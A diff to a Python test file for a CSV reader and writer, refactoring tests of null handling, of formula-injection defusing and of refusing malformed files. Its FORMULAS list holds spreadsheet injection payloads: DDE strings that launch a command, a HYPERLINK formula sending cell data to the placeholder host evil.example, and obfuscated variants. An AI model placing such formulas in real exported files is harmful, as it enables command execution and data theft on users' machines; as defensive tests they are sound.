@@ -60,15 +60,12 @@ def test_the_same_cells_are_found_by_the_standard_library() -> None:
 def test_null_and_empty_text_differ_for_a_reader_that_looks() -> None:
     content = written(*(lead(id=text, source=text) for text in NASTY), lead(id="last"), defuse=False)
 
+    as_text = dict.fromkeys(LEADS.names, pyarrow.string())
+    quoted = {"strings_can_be_null": True, "quoted_strings_can_be_null": False, "null_values": [""]}
     found = pyarrow.csv.read_csv(
         io.BytesIO(content),
         parse_options=pyarrow.csv.ParseOptions(newlines_in_values=True),
-        convert_options=pyarrow.csv.ConvertOptions(
-            column_types=dict.fromkeys(LEADS.names, pyarrow.string()),
-            strings_can_be_null=True,
-            quoted_strings_can_be_null=False,
-            null_values=[""],
-        ),
+        convert_options=pyarrow.csv.ConvertOptions(column_types=as_text, **quoted),
     )
 
     assert found["id"].to_pylist() == [*NASTY, "last"]
@@ -78,31 +75,13 @@ def test_null_and_empty_text_differ_for_a_reader_that_looks() -> None:
 
 # ------------------------------------------------------------------------------------------------------------ formulas
 FORMULAS = [
-    "=1+1",
-    "=cmd|' /C calc'!A0",
-    '=HYPERLINK("http://evil.example?x="&A1,"click")',
-    "+1+1",
-    "-2+3+cmd|' /C calc'!D2",
-    "@SUM(1+1)*cmd|' /C calc'!A0",
-    "\t=1+1",
-    "\r=1+1",
-    "\n=1+1",
-    "\tx",
-    "\rx",
-    "\nx",
-    " =1+1",
-    "\u00a0=1+1",
-    "\u3000=1+1",
-    "\ufeff=1+1",
-    "\u200b=1+1",
-    "\x01=1+1",
-    "\uff1d1+1",
-    "\uff0b1+1",
-    "\uff0d1+1",
-    "\uff20SUM(1)",
-    "=",
-    "+49 170 1234567",
-    "-",
+    *("=", "-", "=1+1", "+1+1", "+49 170 1234567", '=HYPERLINK("http://evil.example?x="&A1,"click")'),
+    *("=cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!D2", "@SUM(1+1)*cmd|' /C calc'!A0"),
+    # Behind what a spreadsheet may skip, and what a file must not begin with.
+    *("\t=1+1", "\r=1+1", "\n=1+1", "\tx", "\rx", "\nx", " =1+1", "\u00a0=1+1", "\u3000=1+1"),
+    *("\ufeff=1+1", "\u200b=1+1", "\x01=1+1"),
+    # Full width.
+    *("\uff1d1+1", "\uff0b1+1", "\uff0d1+1", "\uff20SUM(1)"),
 ]
 
 
@@ -147,32 +126,19 @@ def test_a_column_that_a_file_lacks_is_left_out() -> None:
     assert list(read_csv(io.BytesIO(content), LEADS, defuse=True)) == [{"id": "a", "_chatbot_id": "agent-a"}]
 
 
-@pytest.mark.parametrize(
-    "content",
-    [
-        b"",
-        b"\n",
-        b"somebody's notes\n",
-        HEADER.encode()[:-1],
-        HEADER.encode().replace(b"id", b"ID", 1),
-        b"id,score\n",
-        b"\xff\xfe\n",
-        HEADER.encode() + b"\n",
-        HEADER.encode() + b'"a"\n',
-        HEADER.encode() + b"a,,,,,,,,,,\n",
-        HEADER.encode() + b'"a",,,,,,,,,,',
-        HEADER.encode() + b'"a",,,,,,,,,,\r\n',
-        HEADER.encode() + b'"a,,,,,,,,,,\n',
-        HEADER.encode() + b'"a"x,,,,,,,,,,\n',
-        HEADER.encode() + b'"a",,,,,,,,,,,\n',
-        HEADER.encode() + b'"\xff",,,,,,,,,,\n',
-        HEADER.encode() + b'"a",,,,,"{",,,,,\n',
-        HEADER.encode() + b'"a",,,,,,,,,"5",\n',
-        b'_position\n"x"\n',
-        b'_position\n""\n',
-        b'_position\n"1.5"\n',
-    ],
-)
+FOREIGN = [
+    *(b"", b"\n", b"somebody's notes\n", b"id,score\n", b"\xff\xfe\n", HEADER.encode()[:-1]),
+    HEADER.encode().replace(b"id", b"ID", 1),
+    *(b'_position\n"x"\n', b'_position\n""\n', b'_position\n"1.5"\n'),
+]
+#: Lines below our header: too few or too many cells, not quoted, broken off, and cells that hold something else.
+LINES = [
+    *(b"\n", b'"a"\n', b'"a",,,,,,,,,,,\n', b"a,,,,,,,,,,\n", b'"a",,,,,,,,,,', b'"a",,,,,,,,,,\r\n'),
+    *(b'"a,,,,,,,,,,\n', b'"a"x,,,,,,,,,,\n', b'"\xff",,,,,,,,,,\n', b'"a",,,,,"{",,,,,\n', b'"a",,,,,,,,,"5",\n'),
+]
+
+
+@pytest.mark.parametrize("content", [*FOREIGN, *(HEADER.encode() + line for line in LINES)])
 def test_what_was_written_by_somebody_else_is_refused(content: bytes) -> None:
     table = table_of("messages") if content.startswith(b"_position") else LEADS
     with pytest.raises(ValueError):  # noqa: PT011 (who reads the file says which)
